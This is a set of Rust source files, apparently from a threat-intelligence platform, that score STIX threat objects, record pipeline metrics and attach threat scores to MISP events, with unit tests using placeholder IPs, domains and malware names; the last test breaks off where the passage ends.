        Some(kind) if kind.eq_ignore_ascii_case("infrastructure") => FeatureValue::Scored(5),
        Some(kind) if kind.eq_ignore_ascii_case("osint") => FeatureValue::Scored(3),
        Some(_) => FeatureValue::Scored(2),
        None => FeatureValue::Empty,
    }
}

/// Scores a vocabulary-checked label: suggested value (5), custom (3),
/// absent (empty).
fn vocab_band(value: Option<&str>, in_vocab: impl Fn(&str) -> bool) -> FeatureValue {
    match value {
        Some(v) if in_vocab(v) => FeatureValue::Scored(5),
        Some(_) => FeatureValue::Scored(3),
        None => FeatureValue::Empty,
    }
}

/// Evaluates the attack-pattern heuristic.
pub fn evaluate_attack_pattern(ap: &AttackPattern, ctx: &EvaluationContext) -> ThreatScore {
    let common = ap.common();
    // A detection tool we actually run makes the report immediately
    // actionable for this infrastructure.
    let detection_tool = match ap.detection_tool.as_deref() {
        Some(tool) if ctx.inventory.match_application(tool).is_match() => FeatureValue::Scored(5),
        Some(_) => FeatureValue::Scored(3),
        None => FeatureValue::Empty,
    };
    let values = vec![
        match ap.attack_type.as_deref() {
            Some(_) => FeatureValue::Scored(4),
            None => FeatureValue::Empty,
        },
        detection_tool,
        age_band(common.modified.max(common.created), ctx),
        valid_from_band(Some(common.created), ctx),
        references_band(common),
        kill_chain_band(&ap.kill_chain_phases),
        osint_source_band(common),
        source_type_band(common),
    ];
    finish(HeuristicKind::AttackPattern, values)
}

/// Evaluates the identity heuristic.
pub fn evaluate_identity(identity: &Identity, ctx: &EvaluationContext) -> ThreatScore {
    let common = identity.common();
    let values = vec![
        vocab_band(identity.identity_class.as_deref(), |v| {
            vocab::identity_class::contains(v)
        }),
        if identity.name.trim().is_empty() {
            FeatureValue::Empty
        } else {
            FeatureValue::Scored(5)
        },
        match identity.sectors.len() {
            0 => FeatureValue::Empty,
            1 => FeatureValue::Scored(3),
            _ => FeatureValue::Scored(4),
        },
        age_band(common.modified.max(common.created), ctx),
        valid_from_band(Some(common.created), ctx),
        match identity.location.as_deref() {
            Some(_) => FeatureValue::Scored(3),
            None => FeatureValue::Empty,
        },
        osint_source_band(common),
        source_type_band(common),
    ];
    finish(HeuristicKind::Identity, values)
}

/// Evaluates the indicator heuristic over a STIX indicator object.
pub fn evaluate_indicator(indicator: &Indicator, ctx: &EvaluationContext) -> ThreatScore {
    let common = indicator.common();
    // The pattern feature rewards a compilable detection pattern; a
    // malformed one is worse than none because it silently detects
    // nothing.
    let pattern = if indicator.pattern.trim().is_empty() {
        FeatureValue::Empty
    } else if indicator.compiled_pattern().is_ok() {
        FeatureValue::Scored(5)
    } else {
        FeatureValue::Scored(1)
    };
    let indicator_type = if common.labels.is_empty() {
        FeatureValue::Empty
    } else if common
        .labels
        .iter()
        .any(|l| vocab::indicator_label::contains(l))
    {
        FeatureValue::Scored(5)
    } else {
        FeatureValue::Scored(3)
    };
    let values = vec![
        indicator_type,
        age_band(common.modified.max(common.created), ctx),
        valid_from_band(Some(indicator.valid_from), ctx),
        references_band(common),
        kill_chain_band(&indicator.kill_chain_phases),
        pattern,
        osint_source_band(common),
        source_type_band(common),
    ];
    finish(HeuristicKind::Indicator, values)
}

/// Evaluates the malware heuristic.
pub fn evaluate_malware(malware: &Malware, ctx: &EvaluationContext) -> ThreatScore {
    let common = malware.common();
    let operating_system = if malware.operating_systems.is_empty() {
        FeatureValue::Empty
    } else {
        let mut best = 0u8;
        for os in &malware.operating_systems {
            let os = os.to_ascii_lowercase();
            let score = if os.contains("windows") {
                5
            } else if ["linux", "debian", "ubuntu", "centos"]
                .iter()
                .any(|f| os.contains(f))
            {
                3
            } else {
                1
            };
            best = best.max(score);
        }
        FeatureValue::scored(best)
    };
    let status = match malware.status.as_deref() {
        Some(s) if s.eq_ignore_ascii_case("active") => FeatureValue::Scored(5),
        Some(s) if s.eq_ignore_ascii_case("sinkholed") || s.eq_ignore_ascii_case("dormant") => {
            FeatureValue::Scored(2)
        }
        Some(_) => FeatureValue::Scored(3),
        None => FeatureValue::Empty,
    };
    let values = vec![
        vocab_band(malware.category(), vocab::malware_label::contains),
        status,
        operating_system,
        age_band(common.modified.max(common.created), ctx),
        valid_from_band(Some(common.created), ctx),
        references_band(common),
        kill_chain_band(&malware.kill_chain_phases),
        osint_source_band(common),
        source_type_band(common),
    ];
    finish(HeuristicKind::Malware, values)
}

/// Evaluates the tool heuristic.
pub fn evaluate_tool(tool: &Tool, ctx: &EvaluationContext) -> ThreatScore {
    let common = tool.common();
    // A dual-use tool the inventory actually runs is maximally relevant
    // (an attacker report about software present on our own nodes).
    let name = if tool.name.trim().is_empty() {
        FeatureValue::Empty
    } else if ctx.inventory.match_application(&tool.name).is_match() {
        FeatureValue::Scored(5)
    } else {
        FeatureValue::Scored(3)
    };
    let values = vec![
        vocab_band(tool.tool_type(), vocab::tool_label::contains),
        name,
        age_band(common.modified.max(common.created), ctx),
        valid_from_band(Some(common.created), ctx),
        kill_chain_band(&tool.kill_chain_phases),
        osint_source_band(common),
        source_type_band(common),
    ];
    finish(HeuristicKind::Tool, values)
}

/// Evaluates any STIX object its heuristic supports, returning the
/// heuristic used and the score; `None` for the six unsupported SDO
/// types and the SROs.
pub fn evaluate_object(
    object: &StixObject,
    ctx: &EvaluationContext,
) -> Option<(HeuristicKind, ThreatScore)> {
    match object {
        StixObject::AttackPattern(ap) => Some((
            HeuristicKind::AttackPattern,
            evaluate_attack_pattern(ap, ctx),
        )),
        StixObject::Identity(identity) => {
            Some((HeuristicKind::Identity, evaluate_identity(identity, ctx)))
        }
        StixObject::Indicator(indicator) => {
            Some((HeuristicKind::Indicator, evaluate_indicator(indicator, ctx)))
        }
        StixObject::Malware(malware) => {
            Some((HeuristicKind::Malware, evaluate_malware(malware, ctx)))
        }
        StixObject::Tool(tool) => Some((HeuristicKind::Tool, evaluate_tool(tool, ctx))),
        StixObject::Vulnerability(vuln) => Some((
            HeuristicKind::Vulnerability,
            super::vulnerability::evaluate(vuln, ctx),
        )),
        _ => None,
    }
}

fn finish(kind: HeuristicKind, values: Vec<FeatureValue>) -> ThreatScore {
    let names = super::registry::feature_names(kind);
    threat_score_named(&names, &values, &kind.weight_scheme())
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::Timestamp;

    fn ctx() -> EvaluationContext {
        EvaluationContext::paper_use_case()
    }

    fn recent(ctx: &EvaluationContext) -> Timestamp {
        ctx.now.add_days(-2)
    }

    #[test]
    fn every_supported_object_scores_in_range() {
        let ctx = ctx();
        let stamp = recent(&ctx);
        let objects: Vec<StixObject> = vec![
            AttackPattern::builder("spearphishing")
                .attack_type("initial-access")
                .detection_tool("suricata")
                .created(stamp)
                .modified(stamp)
                .kill_chain_phase(KillChainPhase::lockheed_martin("delivery"))
                .osint_source("feed")
                .source_type("osint")
                .build()
                .into(),
            Identity::builder("evil corp")
                .identity_class("organization")
                .sector("financial-services")
                .location("RU")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            Indicator::builder("[ipv4-addr:value = '203.0.113.9']", stamp)
                .label("malicious-activity")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            Malware::builder("emotet")
                .label("trojan")
                .status("active")
                .operating_system("windows")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            Tool::builder("nmap")
                .label("vulnerability-scanning")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
            cais_stix::sdo::Vulnerability::builder("CVE-2017-9805")
                .created(stamp)
                .modified(stamp)
                .build()
                .into(),
        ];
        for object in &objects {
            let (kind, score) = evaluate_object(object, &ctx)
                .unwrap_or_else(|| panic!("{:?}", object.object_type()));
            assert!(
                score.total() > 0.0 && score.total() <= 5.0,
                "{kind}: {}",
                score.total()
            );
            assert_eq!(kind.stix_type(), object.object_type().as_str());
        }
    }

    #[test]
    fn unsupported_objects_are_none() {
        let ctx = ctx();
        let campaign: StixObject = Campaign::builder("op-x").build().into();
        assert!(evaluate_object(&campaign, &ctx).is_none());
        let report: StixObject = Report::builder("weekly", Timestamp::EPOCH).build().into();
        assert!(evaluate_object(&report, &ctx).is_none());
    }

    #[test]
    fn detection_tool_in_inventory_raises_attack_pattern_score() {
        let ctx = ctx();
        let stamp = recent(&ctx);
        let with_our_tool = AttackPattern::builder("probe")
            .detection_tool("suricata") // Table III node app
            .created(stamp)
            .modified(stamp)
            .build();
        let with_foreign_tool = AttackPattern::builder("probe")
            .detection_tool("some-edr")
            .created(stamp)
            .modified(stamp)
            .build();
        assert!(
            evaluate_attack_pattern(&with_our_tool, &ctx).total()
                > evaluate_attack_pattern(&with_foreign_tool, &ctx).total()
        );
    }

    #[test]
    fn inventory_tool_is_maximally_relevant() {
        let ctx = ctx();
        let stamp = recent(&ctx);
        let ours = Tool::builder("snort")
            .label("network-capture")
            .created(stamp)
            .modified(stamp)
            .build();
        let foreign = Tool::builder("cobalt strike")
            .label("remote-access")
            .created(stamp)
            .modified(stamp)
            .build();
        assert!(evaluate_tool(&ours, &ctx).total() > evaluate_tool(&foreign, &ctx).total());
    }

    #[test]
    fn broken_pattern_scores_below_valid_pattern() {
        let ctx = ctx();
        let stamp = recent(&ctx);
        let valid = Indicator::builder("[domain-name:value = 'evil.example']", stamp)
            .label("malicious-activity")
            .created(stamp)
            .modified(stamp)
            .build();
        let broken = Indicator::builder("[[[", stamp)
            .label("malicious-activity")
            .created(stamp)
            .modified(stamp)
            .build();
        assert!(
            evaluate_indicator(&valid, &ctx).total() > evaluate_indicator(&broken, &ctx).total()
        );
    }

    #[test]
    fn active_malware_outranks_sinkholed() {
        let ctx = ctx();
        let stamp = recent(&ctx);
        let build = |status: &str| {
            Malware::builder("emotet")
                .label("trojan")
                .status(status)
                .created(stamp)
                .modified(stamp)
                .build()
        };
        assert!(
            evaluate_malware(&build("active"), &ctx).total()
                > evaluate_malware(&build("sinkholed"), &ctx).total()
        );
    }

    #[test]
    fn missing_information_lowers_completeness() {
        let ctx = ctx();
        let stamp = recent(&ctx);
        let rich = Identity::builder("acme")
            .identity_class("organization")
            .sector("technology")
            .location("ES")
            .created(stamp)
            .modified(stamp)
            .osint_source("feed")
            .source_type("osint")
            .build();
        let bare = Identity::builder("acme")
            .created(stamp)
            .modified(stamp)
            .build();
        let rich_score = evaluate_identity(&rich, &ctx);
        let bare_score = evaluate_identity(&bare, &ctx);
        assert!(rich_score.completeness() > bare_score.completeness());
        assert!(rich_score.total() > bare_score.total());
    }
}
