//! Pipeline telemetry: cached registry handles for the ingestion
//! rounds.
//!
//! The pipeline's timing source stays [`StageMetrics`] — each stage is
//! measured exactly once, by the ingest paths themselves — and
//! [`PipelineInstruments::record_round`] feeds the finished report
//! into the registry. Nothing is timed twice, so the dashboard (which
//! reads `PlatformReport`) and the scrape endpoint (which reads the
//! registry) can never disagree.
//!
//! Counters carry only the deterministic part of a report (record
//! counts); wall times go into per-stage histograms. That split is
//! what lets the serial and parallel ingest paths — whose reports
//! satisfy [`PlatformReport::same_counters`] — produce *identical*
//! registry counters for the same input, a property the workspace
//! tests enforce.

use cais_telemetry::{labeled, Counter, Gauge, Histogram, Registry};

use crate::metrics::{StageMetrics, StageRecord};
use crate::pipeline::PlatformReport;
use crate::reduce::ReduceCacheStats;

/// Cached handles for one stage's counters and latency histogram.
struct StageInstruments {
    records_in: Counter,
    records_out: Counter,
    dropped: Counter,
    nanos: Histogram,
}

impl StageInstruments {
    fn new(registry: &Registry, stage: &str) -> Self {
        let l = |name| labeled(name, &[("stage", stage)]);
        StageInstruments {
            records_in: registry.counter(&l("pipeline_stage_records_in_total")),
            records_out: registry.counter(&l("pipeline_stage_records_out_total")),
            dropped: registry.counter(&l("pipeline_stage_dropped_total")),
            nanos: registry.histogram(&l("pipeline_stage_nanos")),
        }
    }

    fn record(&self, stage: &StageRecord) {
        self.records_in.add(stage.records_in as u64);
        self.records_out.add(stage.records_out as u64);
        self.dropped.add(stage.dropped as u64);
        self.nanos.record(stage.wall_nanos);
    }
}

/// Cached registry handles for the whole pipeline; built once per
/// [`Platform`](crate::Platform) so the per-round hot path never
/// touches the registry's locks.
pub struct PipelineInstruments {
    rounds: Counter,
    records_in: Counter,
    nlp_filtered: Counter,
    benign_filtered: Counter,
    duplicates_dropped: Counter,
    ciocs: Counter,
    eiocs: Counter,
    riocs: Counter,
    round_nanos: Histogram,
    stages: Vec<(&'static str, StageInstruments)>,
    reduce_caches: ReduceCacheInstruments,
}

/// Gauges mirroring the reducer's cache-effectiveness snapshot.
///
/// Gauges, not counters, on purpose: memo hit/miss splits depend on
/// thread interleaving in the parallel ingest path (two workers can
/// race to the same uncached candidate list), so they sit outside the
/// serial==parallel counter-determinism contract the workspace tests
/// enforce. Each round overwrites them with the latest snapshot.
struct ReduceCacheInstruments {
    index_rebuilds: Gauge,
    cve_memo_hits: Gauge,
    cve_memo_misses: Gauge,
    match_memo_hits: Gauge,
    match_memo_misses: Gauge,
    match_memo_evictions: Gauge,
}

impl ReduceCacheInstruments {
    fn new(registry: &Registry) -> Self {
        ReduceCacheInstruments {
            index_rebuilds: registry.gauge("reduce_index_rebuilds"),
            cve_memo_hits: registry.gauge("reduce_cve_memo_hits"),
            cve_memo_misses: registry.gauge("reduce_cve_memo_misses"),
            match_memo_hits: registry.gauge("reduce_match_memo_hits"),
            match_memo_misses: registry.gauge("reduce_match_memo_misses"),
            match_memo_evictions: registry.gauge("reduce_match_memo_evictions"),
        }
    }

    fn record(&self, stats: &ReduceCacheStats) {
        self.index_rebuilds.set(stats.index_rebuilds as i64);
        self.cve_memo_hits.set(stats.cve_memo_hits as i64);
        self.cve_memo_misses.set(stats.cve_memo_misses as i64);
        self.match_memo_hits.set(stats.match_memo_hits as i64);
        self.match_memo_misses.set(stats.match_memo_misses as i64);
        self.match_memo_evictions
            .set(stats.match_memo_evictions as i64);
    }
}

impl PipelineInstruments {
    /// Registers (or re-attaches to) the pipeline metrics in a
    /// registry.
    pub fn new(registry: &Registry) -> Self {
        let stages = StageMetrics::default()
            .stages()
            .into_iter()
            .map(|(name, _)| (name, StageInstruments::new(registry, name)))
            .collect();
        PipelineInstruments {
            rounds: registry.counter("pipeline_rounds_total"),
            records_in: registry.counter("pipeline_records_in_total"),
            nlp_filtered: registry.counter("pipeline_nlp_filtered_total"),
            benign_filtered: registry.counter("pipeline_benign_filtered_total"),
            duplicates_dropped: registry.counter("pipeline_duplicates_dropped_total"),
            ciocs: registry.counter("pipeline_ciocs_total"),
            eiocs: registry.counter("pipeline_eiocs_total"),
            riocs: registry.counter("pipeline_riocs_total"),
            round_nanos: registry.histogram("pipeline_round_nanos"),
            stages,
            reduce_caches: ReduceCacheInstruments::new(registry),
        }
    }

    /// Publishes the reducer's cache snapshot as gauges; called by both
    /// ingest paths after [`PipelineInstruments::record_round`].
    pub fn record_reduce_caches(&self, stats: &ReduceCacheStats) {
        self.reduce_caches.record(stats);
    }

    /// Folds one finished round into the registry. Counter values
    /// depend only on the report's deterministic record counts; the
    /// wall times land in histograms, which the determinism contract
    /// deliberately excludes.
    pub fn record_round(&self, report: &PlatformReport) {
        self.rounds.inc();
        self.records_in.add(report.records_in as u64);
        self.nlp_filtered.add(report.nlp_filtered as u64);
        self.benign_filtered.add(report.benign_filtered as u64);
        self.duplicates_dropped
            .add(report.duplicates_dropped as u64);
        self.ciocs.add(report.ciocs as u64);
        self.eiocs.add(report.eiocs as u64);
        self.riocs.add(report.riocs as u64);
        self.round_nanos.record(report.stages.total_nanos());
        for (name, instruments) in &self.stages {
            let stage = report
                .stages
                .stages()
                .into_iter()
                .find(|(n, _)| n == name)
                .map(|(_, record)| record)
                .unwrap_or_default();
            instruments.record(&stage);
        }
    }
}

impl std::fmt::Debug for PipelineInstruments {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PipelineInstruments")
            .field("rounds", &self.rounds.get())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn record_round_folds_report_into_counters() {
        let registry = Registry::new();
        let instruments = PipelineInstruments::new(&registry);
        let mut report = PlatformReport {
            records_in: 10,
            duplicates_dropped: 4,
            ciocs: 6,
            eiocs: 6,
            riocs: 2,
            ..PlatformReport::default()
        };
        report.stages.dedup = StageRecord::timed(10, 6, 1_500);
        instruments.record_round(&report);
        instruments.record_round(&report);
        let snapshot = registry.snapshot();
        assert_eq!(snapshot.counters["pipeline_rounds_total"], 2);
        assert_eq!(snapshot.counters["pipeline_records_in_total"], 20);
        assert_eq!(snapshot.counters["pipeline_riocs_total"], 4);
        let dedup_in = labeled("pipeline_stage_records_in_total", &[("stage", "dedup")]);
        assert_eq!(snapshot.counters[&dedup_in], 20);
        let dedup_nanos = labeled("pipeline_stage_nanos", &[("stage", "dedup")]);
        assert_eq!(snapshot.histograms[&dedup_nanos].count, 2);
        assert_eq!(snapshot.histograms[&dedup_nanos].sum, 3_000);
    }

    #[test]
    fn reduce_cache_stats_land_as_gauges() {
        let registry = Registry::new();
        let instruments = PipelineInstruments::new(&registry);
        let stats = ReduceCacheStats {
            cve_memo_hits: 5,
            cve_memo_misses: 2,
            match_memo_hits: 40,
            match_memo_misses: 8,
            match_memo_evictions: 1,
            index_rebuilds: 3,
        };
        instruments.record_reduce_caches(&stats);
        // Gauges overwrite, not accumulate: a second snapshot wins.
        instruments.record_reduce_caches(&stats);
        let snapshot = registry.snapshot();
        assert_eq!(snapshot.gauges["reduce_match_memo_hits"], 40);
        assert_eq!(snapshot.gauges["reduce_index_rebuilds"], 3);
        assert_eq!(snapshot.gauges["reduce_cve_memo_misses"], 2);
        assert_eq!(snapshot.gauges["reduce_match_memo_evictions"], 1);
    }
}
