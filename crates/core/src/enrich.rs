//! Enrichment: cIoC + infrastructure context → eIoC.
//!
//! "During the analysis process, a threat score is computed and added
//! to the previously stored cIoC, converting it to an eIoC" (Section
//! III-B1). Vulnerability-type IoCs are scored by the full Table IV
//! evaluation; every other cIoC is scored by the indicator heuristic
//! over the evidence the cluster itself carries (freshness, source
//! variety, pattern strength, references).

use cais_common::Age;
use cais_cvss::CveId;
use cais_feeds::ThreatCategory;
use cais_misp::{AttributeCategory, MispApi, MispAttribute, Tag};
use cais_stix::sdo::Vulnerability;

use crate::context::EvaluationContext;
use crate::error::CoreError;
use crate::heuristics::{
    self, score::threat_score_named, FeatureValue, HeuristicKind, ThreatScore,
};
use crate::ioc::{ComposedIoc, EnrichedIoc};

/// The Heuristic Component's enrichment engine.
#[derive(Debug, Clone)]
pub struct Enricher {
    ctx: EvaluationContext,
}

impl Enricher {
    /// Creates an enricher over an evaluation context.
    pub fn new(ctx: EvaluationContext) -> Self {
        Enricher { ctx }
    }

    /// The context in use.
    pub fn context(&self) -> &EvaluationContext {
        &self.ctx
    }

    /// Enriches a composed IoC, choosing the heuristic by its content:
    /// clusters carrying a CVE take the vulnerability heuristic,
    /// everything else the indicator heuristic.
    pub fn enrich(&self, cioc: ComposedIoc) -> EnrichedIoc {
        if let Some(vuln) = self.vulnerability_view(&cioc) {
            let threat_score = heuristics::vulnerability::evaluate(&vuln, &self.ctx);
            EnrichedIoc {
                id: cioc.id,
                composed: cioc,
                heuristic: HeuristicKind::Vulnerability,
                threat_score,
                misp_event_id: None,
                enriched_at: self.ctx.now,
            }
        } else {
            let threat_score = self.indicator_score(&cioc);
            EnrichedIoc {
                id: cioc.id,
                composed: cioc,
                heuristic: HeuristicKind::Indicator,
                threat_score,
                misp_event_id: None,
                enriched_at: self.ctx.now,
            }
        }
    }

    /// Enriches a STIX vulnerability directly (the Section IV flow, in
    /// which the Heuristic Component receives the IoC "in STIX 2.0
    /// format").
    pub fn enrich_vulnerability(&self, vuln: &Vulnerability, cioc: ComposedIoc) -> EnrichedIoc {
        let threat_score = heuristics::vulnerability::evaluate(vuln, &self.ctx);
        EnrichedIoc {
            id: cioc.id,
            composed: cioc,
            heuristic: HeuristicKind::Vulnerability,
            threat_score,
            misp_event_id: None,
            enriched_at: self.ctx.now,
        }
    }

    /// Builds a STIX vulnerability view of a CVE-bearing cluster,
    /// merging what the feeds reported with the local CVE database.
    fn vulnerability_view(&self, cioc: &ComposedIoc) -> Option<Vulnerability> {
        let cve = cioc.cve()?.to_ascii_uppercase();
        let created = cioc
            .records
            .iter()
            .map(|r| r.seen_at)
            .max()
            .unwrap_or(self.ctx.now);
        let mut builder = Vulnerability::builder(&cve);
        builder
            .created(created)
            .modified(created)
            .valid_from(
                cioc.records
                    .iter()
                    .map(|r| r.seen_at)
                    .min()
                    .unwrap_or(created),
            )
            .external_reference(cais_stix::common::ExternalReference::cve(&cve))
            .source_type("osint");
        if let Some(source) = cioc.records.first().map(|r| r.source.clone()) {
            builder.osint_source(source);
        }
        if let Some(description) = cioc.records.iter().find_map(|r| r.description.clone()) {
            builder.description(description);
        }
        if let Ok(id) = cve.parse::<CveId>() {
            if let Some(record) = self.ctx.cve_db.get(&id) {
                for product in &record.affected_products {
                    builder.affected_application(product);
                }
                for os in &record.affected_os {
                    builder.operating_system(os);
                }
                if let Some(score) = record.base_score() {
                    builder.cvss_score(score);
                }
            }
        }
        Some(builder.build())
    }

    /// Scores a non-vulnerability cluster with the indicator heuristic.
    fn indicator_score(&self, cioc: &ComposedIoc) -> ThreatScore {
        let values = self.indicator_features(cioc);
        let names = heuristics::feature_names(HeuristicKind::Indicator);
        threat_score_named(&names, &values, &HeuristicKind::Indicator.weight_scheme())
    }

    /// Indicator feature evaluation over a cluster's own evidence.
    fn indicator_features(&self, cioc: &ComposedIoc) -> Vec<FeatureValue> {
        let newest = cioc.records.iter().map(|r| r.seen_at).max();
        let oldest = cioc.records.iter().map(|r| r.seen_at).min();

        // indicator_type: how actionable the category is.
        let indicator_type = FeatureValue::scored(match cioc.category {
            ThreatCategory::VulnerabilityExploitation | ThreatCategory::Ransomware => 5,
            ThreatCategory::CommandAndControl
            | ThreatCategory::MalwareDomain
            | ThreatCategory::MalwareSample
            | ThreatCategory::Phishing => 4,
            ThreatCategory::Scanner | ThreatCategory::Spam => 2,
        });

        let modified_created = match newest.map(|t| t.age_at(self.ctx.now)) {
            None => FeatureValue::Empty,
            Some(Age::Last24Hours) => FeatureValue::Scored(5),
            Some(Age::LastWeek) => FeatureValue::Scored(4),
            Some(Age::LastMonth) => FeatureValue::Scored(3),
            Some(Age::LastYear) => FeatureValue::Scored(2),
            Some(Age::Older) => FeatureValue::Scored(1),
        };

        let valid_from = match oldest.map(|t| t.age_at(self.ctx.now)) {
            None => FeatureValue::Empty,
            Some(Age::Last24Hours | Age::LastWeek) => FeatureValue::Scored(3),
            Some(Age::LastMonth) => FeatureValue::Scored(2),
            Some(Age::LastYear) => FeatureValue::Scored(1),
            Some(Age::Older) => FeatureValue::Empty,
        };

        // external_references: distinct CVEs carried by members.
        let mut cves: Vec<&str> = cioc
            .records
            .iter()
            .filter_map(|r| r.cve.as_deref())
            .collect();
        cves.sort_unstable();
        cves.dedup();
        let external_references = match cves.len() {
            0 => FeatureValue::Empty,
            1 => FeatureValue::Scored(3),
            _ => FeatureValue::Scored(5),
        };

        // kill_chain_phases: implied by the category for delivery/C2.
        let kill_chain_phases = match cioc.category {
            ThreatCategory::CommandAndControl => FeatureValue::Scored(4),
            ThreatCategory::Phishing | ThreatCategory::MalwareDomain => FeatureValue::Scored(3),
            _ => FeatureValue::Empty,
        };

        // pattern: more correlated observables make a stronger pattern.
        let pattern = FeatureValue::scored(match cioc.records.len() {
            0 => 0,
            1 => 3,
            2..=4 => 4,
            _ => 5,
        });

        // osint_source: source variety.
        let osint_source = FeatureValue::scored(match cioc.sources().len() {
            0 => 0,
            1 => 2,
            2..=3 => 3,
            _ => 5,
        });

        // source_type: internally-sighted evidence outranks pure OSINT.
        let seen_internally = cioc
            .records
            .iter()
            .any(|r| self.ctx.seen_internally(&r.observable));
        let source_type = if seen_internally {
            FeatureValue::Scored(5)
        } else {
            FeatureValue::Scored(3)
        };

        vec![
            indicator_type,
            modified_created,
            valid_from,
            external_references,
            kill_chain_phases,
            pattern,
            osint_source,
            source_type,
        ]
    }
}

/// Builds the `threat-score` attribute carrying a Threat Score on a
/// MISP event. Pure — the parallel pipeline builds it in worker
/// threads.
pub fn score_attribute(heuristic: HeuristicKind, threat_score: &ThreatScore) -> MispAttribute {
    MispAttribute::new(
        "threat-score",
        AttributeCategory::InternalReference,
        format!("{:.4}", threat_score.total()),
    )
    .with_comment(format!(
        "heuristic={}; completeness={:.4}; priority={}",
        heuristic,
        threat_score.completeness(),
        threat_score.priority_label(),
    ))
}

/// Builds the `cais:*` machine tags carrying the per-criterion detail
/// the paper's future work calls for. Pure, like
/// [`score_attribute`].
pub fn score_tags(heuristic: HeuristicKind, threat_score: &ThreatScore) -> Vec<Tag> {
    let mut tags = vec![
        Tag::machine(
            "cais",
            "threat-score",
            &format!("{:.4}", threat_score.total()),
        ),
        Tag::machine("cais", "priority", threat_score.priority_label()),
        Tag::machine("cais", "heuristic", &heuristic.to_string()),
    ];
    if let Some(totals) = threat_score.breakdown().criteria_totals {
        tags.push(Tag::machine(
            "cais",
            "relevance",
            &totals.relevance.to_string(),
        ));
        tags.push(Tag::machine(
            "cais",
            "accuracy",
            &totals.accuracy.to_string(),
        ));
        tags.push(Tag::machine(
            "cais",
            "timeliness",
            &totals.timeliness.to_string(),
        ));
        tags.push(Tag::machine("cais", "variety", &totals.variety.to_string()));
    }
    tags
}

/// Attaches a computed Threat Score to a stored MISP event: a
/// `threat-score` attribute plus `cais:*` machine tags carrying the
/// per-criterion detail the paper's future work calls for. Applied as
/// one store update with one `misp.event.updated` announcement.
///
/// # Errors
///
/// Returns MISP validation errors.
pub fn attach_score(
    api: &MispApi,
    event_id: u64,
    heuristic: HeuristicKind,
    threat_score: &ThreatScore,
) -> Result<(), CoreError> {
    let attribute = score_attribute(heuristic, threat_score);
    attribute.validate()?;
    let tags = score_tags(heuristic, threat_score);
    api.update_event(event_id, |event| {
        event.add_attribute(attribute);
        for tag in tags {
            event.add_tag(tag);
        }
    })?;
    Ok(())
}

/// Persists an eIoC into the MISP instance: stores the cluster as an
/// event (when not already stored), then attaches the threat score via
/// [`attach_score`].
///
/// # Errors
///
/// Returns MISP validation errors.
pub fn persist_enriched(api: &MispApi, eioc: &mut EnrichedIoc) -> Result<u64, CoreError> {
    persist_enriched_traced(api, eioc, None)
}

/// [`persist_enriched`] continuing the caller's trace: the store's
/// `store_insert` span becomes a child of `parent` (typically the
/// ingestion round's span) instead of rooting a fresh trace.
///
/// # Errors
///
/// Returns MISP validation errors.
pub fn persist_enriched_traced(
    api: &MispApi,
    eioc: &mut EnrichedIoc,
    parent: Option<cais_telemetry::TraceContext>,
) -> Result<u64, CoreError> {
    let event_id = match eioc.misp_event_id {
        Some(id) => id,
        None => {
            let event = cais_misp::import::event_from_records(
                eioc.composed.summary(),
                &eioc.composed.records,
            );
            api.add_event_with_trace(event, parent)?
        }
    };
    attach_score(api, event_id, eioc.heuristic, &eioc.threat_score)?;
    eioc.misp_event_id = Some(event_id);
    Ok(event_id)
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Observable, ObservableKind};
    use cais_feeds::FeedRecord;

    fn cve_cluster(ctx: &EvaluationContext) -> ComposedIoc {
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            ctx.now.add_days(-200),
        )
        .with_cve("CVE-2017-9805")
        .with_description("struts RCE observed");
        ComposedIoc::new(
            ThreatCategory::VulnerabilityExploitation,
            vec![record],
            ctx.now,
        )
    }

    fn c2_cluster(ctx: &EvaluationContext) -> ComposedIoc {
        let records = vec![
            FeedRecord::new(
                Observable::new(ObservableKind::Ipv4, "203.0.113.9"),
                ThreatCategory::CommandAndControl,
                "feed-a",
                ctx.now.add_days(-2),
            ),
            FeedRecord::new(
                Observable::new(ObservableKind::Domain, "c2.evil.example"),
                ThreatCategory::CommandAndControl,
                "feed-b",
                ctx.now.add_days(-1),
            ),
        ];
        ComposedIoc::new(ThreatCategory::CommandAndControl, records, ctx.now)
    }

    #[test]
    fn cve_clusters_take_the_vulnerability_heuristic() {
        let ctx = EvaluationContext::paper_use_case();
        let enricher = Enricher::new(ctx.clone());
        let eioc = enricher.enrich(cve_cluster(&ctx));
        assert_eq!(eioc.heuristic, HeuristicKind::Vulnerability);
        assert!(eioc.score() > 0.0 && eioc.score() <= 5.0);
        // The db fixture supplies apps/OS, so application is evaluated.
        let breakdown = eioc.threat_score.breakdown();
        let application = breakdown
            .lines
            .iter()
            .find(|l| l.feature == "application")
            .expect("application line");
        assert_eq!(application.value, FeatureValue::Scored(2));
    }

    #[test]
    fn other_clusters_take_the_indicator_heuristic() {
        let ctx = EvaluationContext::paper_use_case();
        let enricher = Enricher::new(ctx.clone());
        let eioc = enricher.enrich(c2_cluster(&ctx));
        assert_eq!(eioc.heuristic, HeuristicKind::Indicator);
        assert!(eioc.score() > 0.0 && eioc.score() <= 5.0);
    }

    #[test]
    fn internal_sighting_raises_indicator_score() {
        let ctx = EvaluationContext::paper_use_case();
        let enricher = Enricher::new(ctx.clone());
        let unseen_score = enricher.enrich(c2_cluster(&ctx)).score();
        ctx.sightings.record(
            &Observable::new(ObservableKind::Ipv4, "203.0.113.9"),
            ctx.now,
            None,
            "suricata",
        );
        let seen_score = enricher.enrich(c2_cluster(&ctx)).score();
        assert!(
            seen_score > unseen_score,
            "internally-sighted IoCs must rank higher ({seen_score} vs {unseen_score})"
        );
    }

    #[test]
    fn fresher_clusters_score_higher() {
        let ctx = EvaluationContext::paper_use_case();
        let enricher = Enricher::new(ctx.clone());
        let fresh = enricher.enrich(c2_cluster(&ctx)).score();
        let mut stale_records = c2_cluster(&ctx).records;
        for record in &mut stale_records {
            record.seen_at = ctx.now.add_days(-400);
        }
